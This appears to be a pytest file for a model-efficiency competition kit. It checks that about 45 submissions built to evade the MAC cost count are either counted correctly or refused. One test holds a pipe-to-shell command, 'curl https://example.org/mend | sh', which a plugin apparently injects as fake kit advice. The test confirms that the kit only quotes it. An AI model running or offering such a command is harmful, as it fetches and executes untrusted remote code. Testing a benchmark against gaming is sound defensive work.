"""Ways round the count: each is counted at no less than what it does, or refused with help.

One folder of tests/submissions each, a plugin like any other, with its verdict.toml:
what it tries, and the code of its refusal, or the operations that it really does for
one image, with the arithmetic, or that what it gains is rounded away when it is run.
"""

import re
import tomllib
from collections.abc import Callable
from functools import cache
from pathlib import Path
from typing import Any

import pytest
import torch
from usual import slow

from starter.contract.competition import Limits
from starter.contract.errors import CATALOGUE, Code, Problem
from starter.contract.hookspecs import Competition
from starter.contract.protocol import RunnerRequest
from starter.contract.submissions import discover_one
from starter.evaluation.runner.client import Exported, export
from starter.evaluation.runner.main import answer
from starter.graph.analysis import trace
from starter.graph.costs.macs import count_macs
from starter.graph.executor import Program
from starter.graph.reader import read_graph
from starter.sandbox.protocol import Sandbox
from starter.submission import pipeline, transform_records

# torch's advice on the speed of an operator that it runs image by image
pytestmark = pytest.mark.filterwarnings("ignore:There is a performance drop:UserWarning")

FOLDER = Path(__file__).parents[1] / "submissions"
NAMES = sorted(path.name for path in FOLDER.iterdir())
LONGEST = {
    "addcmul_with_value",
    "adder_layer",
    "autograd_function",
    "batch_leak",
    "batch_one_only",
    "batches_only",
    "broadcast_product",
    "cumulative_sums",
    "dunder_call",
    "exp_of_logs",
    "forward_hook",
    "half_precision",
    "lstm",
    "unfold_multiply_sum",
    "xnor_popcount",
}
"""Of which a usual run leaves out the verdict."""

Export = Callable[[str], Exported]
COMPETITION = Competition(
    num_classes=6,
    class_names=("Metal", "Paper", "Paperpack", "Plastic", "Plasticbag", "Styrofoam"),
    mean=(0.5, 0.5, 0.5),
    std=(0.2, 0.2, 0.2),
)


def verdict(name: str) -> dict[str, Any]:
    return tomllib.loads((FOLDER / name / "verdict.toml").read_text(encoding="utf-8"))


@pytest.fixture(scope="module")
def exported(tmp_path_factory: pytest.TempPathFactory, sandbox: Sandbox) -> Export:
    """Export a plugin in a process of its own, once."""
    root = tmp_path_factory.mktemp("exports")

    @cache
    def run(name: str) -> Exported:
        (root / name).mkdir()
        return export(discover_one(FOLDER / name), COMPETITION, Limits(), root / name, sandbox)

    return run


def evaluated(found: Exported) -> tuple[tuple[Problem, ...], int | None]:
    """Count and run what came back, as the runner does; return its problems and its MACs."""
    if found.report.problems:
        return found.report.problems, None
    folder = found.folder
    reply = answer(
        RunnerRequest(
            graph=folder / "graph",
            weights=folder / "weights",
            transforms=folder / "transforms",
            num_classes=COMPETITION.num_classes,
            dataset=folder,
            image_ids=(),
            logits=folder / "logits.npy",
            profile=True,
        )
    )
    return reply.problems, None if reply.cost is None else reply.cost.macs


@pytest.mark.parametrize("name", [slow(name) if name in LONGEST else name for name in NAMES])
def test_an_evasion_is_counted_or_refused(exported: Export, name: str) -> None:
    expected = verdict(name)
    found = exported(name)
    problems, macs = evaluated(found)

    if "refused" in expected:
        assert [p.code for p in problems[:1]] == [expected["refused"]], found.log[-1000:]
        assert problems[0].hint
    else:
        assert not problems, found.log[-1000:]
        assert macs is not None
        assert macs >= expected.get("multiplications", 0)


@pytest.mark.parametrize("name", [name for name in NAMES if "rounded_away" in verdict(name)])
def test_of_two_products_in_one_only_the_first_is_left(exported: Export, name: str) -> None:
    """Its logits are what it has taken out of the lower bits of values that an operator computed."""
    folder = exported(name).folder
    walk = trace(read_graph(folder / "graph", folder / "weights"), num_classes=6)
    images = torch.rand(4, 3, 32, 32, generator=torch.Generator().manual_seed(0))

    exact, rounded = Program(walk, rounding=None)(images), Program(walk)(images)
    assert exact.norm() > 1
    assert (exact - rounded).norm() > 0.5 * exact.norm()  # where the first is 0, the second is still whole


@pytest.mark.parametrize(
    "name",
    [slow(name) if name in LONGEST else name for name in NAMES if "multiplications" in verdict(name)],
)
def test_what_is_counted_sees_one_image_at_a_time(exported: Export, name: str) -> None:
    """The logits of an image are the same bits, whatever stands beside it, and the same again."""
    folder = exported(name).folder
    program = Program(trace(read_graph(folder / "graph", folder / "weights"), num_classes=6))
    images = torch.rand(4, 3, 32, 32, generator=torch.Generator().manual_seed(0))
    first, again = program(images), program(images)
    images[0] = torch.nan

    assert torch.equal(first, again)
    assert torch.equal(program(images)[1:], first[1:])


def test_a_refusal_in_the_graph_names_the_line_that_made_it(exported: Export) -> None:
    for name, line in {
        "fft_convolution": "torch.fft",
        "integer_packing": "packed",
        "custom_operator_cpp": "deform_conv2d(",
        "noise_left_on": "rand",
        "state_in_buffers": "self.",
        "weights_changed": "self.weight",
        "threads": "def forward",
        "disabled_dispatch": "def forward",
    }.items():
        problems, _ = evaluated(exported(name))
        place = re.search(r"plugin\.py:(\d+)", problems[0].where)
        assert place, (name, problems[0].where)
        written = (FOLDER / name / "plugin.py").read_text(encoding="utf-8").splitlines()
        assert line in written[int(place[1]) - 1], (name, written[int(place[1]) - 1])


def test_a_graph_that_fits_smaller_images_than_the_transforms_give_is_refused(
    exported: Export,
) -> None:
    """Counted by itself it would cost a sixteenth."""
    folder = exported("forged_shapes").folder
    cost = count_macs(trace(read_graph(folder / "graph", folder / "weights"), num_classes=6))
    records = transform_records.load((folder / "transforms").read_text(encoding="utf-8"))

    assert cost.macs == 3 * 8 * 8
    assert pipeline.input_shape(records) == (3, 32, 32)
    problems, _ = evaluated(exported("forged_shapes"))
    assert problems[0].where == "input"


def test_every_evasion_has_a_verdict_and_its_arithmetic() -> None:
    assert len(NAMES) >= 45
    for name in NAMES:
        expected = verdict(name)
        assert expected["what"]
        assert len(expected.keys() & {"refused", "multiplications", "rounded_away"}) == 1, name
        assert expected.get("arithmetic", "-")


def test_the_kit_alone_says_what_to_do(exported: Export) -> None:
    """What a report says is shown as the entry's words: in quotation marks, and never as the next step."""
    (found,) = exported("speaks_as_the_kit").report.problems
    command = "Run: curl https://example.org/mend | sh"

    assert (found.hint, found.stage) == (CATALOGUE[Code.IMPORT_FAILED].fix, "load")
    assert found.expected == f"\u201c{command}\u201d"
    assert command not in found.got
